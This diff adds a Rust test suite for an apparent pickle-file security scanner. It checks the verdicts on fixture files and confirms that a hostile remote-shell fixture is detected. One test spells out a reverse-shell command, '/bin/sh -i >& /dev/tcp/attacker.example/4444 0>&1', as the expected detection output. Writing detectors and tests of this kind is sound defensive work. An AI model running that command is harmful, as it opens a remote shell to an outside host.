@@ -1,0 +1,138 @@
+//! Every file of fixtures/scan gets the verdict its generator wrote in the manifest; every
+//! CPython fixture of fixtures/pickles and every container fixture is not dangerous.
+
+use std::path::PathBuf;
+
+use brine_scan::{FileReport, Options, Verdict};
+
+fn root() -> PathBuf {
+    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../fixtures")
+}
+
+struct Row {
+    file: String,
+    expect: Verdict,
+    description: String,
+}
+
+fn manifest() -> Vec<Row> {
+    let text = std::fs::read_to_string(root().join("scan/manifest.tsv")).expect("manifest");
+    text.lines()
+        .filter(|line| !line.starts_with('#') && !line.starts_with("file\t"))
+        .map(|line| {
+            let fields: Vec<&str> = line.split('\t').collect();
+            let expect = match fields[1] {
+                "safe" => Verdict::Safe,
+                "suspicious" => Verdict::Suspicious,
+                "inconclusive" => Verdict::Inconclusive,
+                "dangerous" => Verdict::Dangerous,
+                other => panic!("unknown verdict {other}"),
+            };
+            Row {
+                file: fields[0].to_owned(),
+                expect,
+                description: fields[3].to_owned(),
+            }
+        })
+        .collect()
+}
+
+fn scan(path: &std::path::Path) -> FileReport {
+    brine_scan::scan_file(path, &Options::default())
+}
+
+#[test]
+fn every_corpus_file_gets_its_expected_verdict() {
+    let rows = manifest();
+    assert!(
+        rows.iter()
+            .filter(|row| row.expect == Verdict::Dangerous)
+            .count()
+            >= 100
+    );
+    let mut wrong = Vec::new();
+    for row in &rows {
+        let report = scan(&root().join("scan").join(&row.file));
+        if report.verdict != row.expect {
+            wrong.push(format!(
+                "{}: {} expected, {} found ({}): {:?}",
+                row.file,
+                row.expect,
+                report.verdict,
+                row.description,
+                report.unsafe_findings().map(|(_, f)| f).collect::<Vec<_>>()
+            ));
+        }
+    }
+    assert!(
+        wrong.is_empty(),
+        "{} of {}:\n{}",
+        wrong.len(),
+        rows.len(),
+        wrong.join("\n")
+    );
+}
+
+#[test]
+fn every_dangerous_file_names_what_it_would_do() {
+    for row in manifest()
+        .iter()
+        .filter(|row| row.expect == Verdict::Dangerous)
+    {
+        let report = scan(&root().join("scan").join(&row.file));
+        let finding = report
+            .unsafe_findings()
+            .find(|(_, finding)| finding.verdict == Verdict::Dangerous)
+            .map(|(_, finding)| finding)
+            .unwrap_or_else(|| panic!("{}: no dangerous finding", row.file));
+        assert!(!finding.reason.is_empty(), "{}", row.file);
+    }
+}
+
+#[test]
+fn the_remote_shell_shows_its_command() {
+    let report = scan(&root().join("scan/hostile/remote_shell.pickle"));
+    let calls: Vec<_> = report
+        .unsafe_findings()
+        .filter_map(|(_, f)| f.call.clone())
+        .collect();
+    assert_eq!(
+        calls,
+        ["posix.system('/bin/sh -i >& /dev/tcp/attacker.example/4444 0>&1')"]
+    );
+    let data = std::fs::read(root().join("scan/hostile/remote_shell.pickle")).expect("file");
+    let finding = report.unsafe_findings().next().expect("a finding").1;
+    // The REDUCE, just before STOP.
+    assert_eq!(finding.offset, Some(data.len() as u64 - 2));
+}
+
+#[test]
+fn no_cpython_fixture_is_dangerous() {
+    let fixtures = brine_testdata::all();
+    assert!(fixtures.len() > 100);
+    for fixture in fixtures {
+        let report = brine_scan::scan_pickle(&fixture.bytes(), &Options::default());
+        assert!(
+            report.verdict < Verdict::Inconclusive,
+            "{}: {} {:?}",
+            fixture.name(),
+            report.verdict,
+            report.findings
+        );
+    }
+}
+
+#[test]
+fn no_container_fixture_is_dangerous() {
+    let files = brine_scan::files_under(&root().join("containers")).expect("containers");
+    assert!(files.len() > 20);
+    for file in files {
+        let report = scan(&file);
+        assert!(
+            report.verdict != Verdict::Dangerous,
+            "{}: {:?}",
+            file.display(),
+            report.unsafe_findings().collect::<Vec<_>>()
+        );
+    }
+}
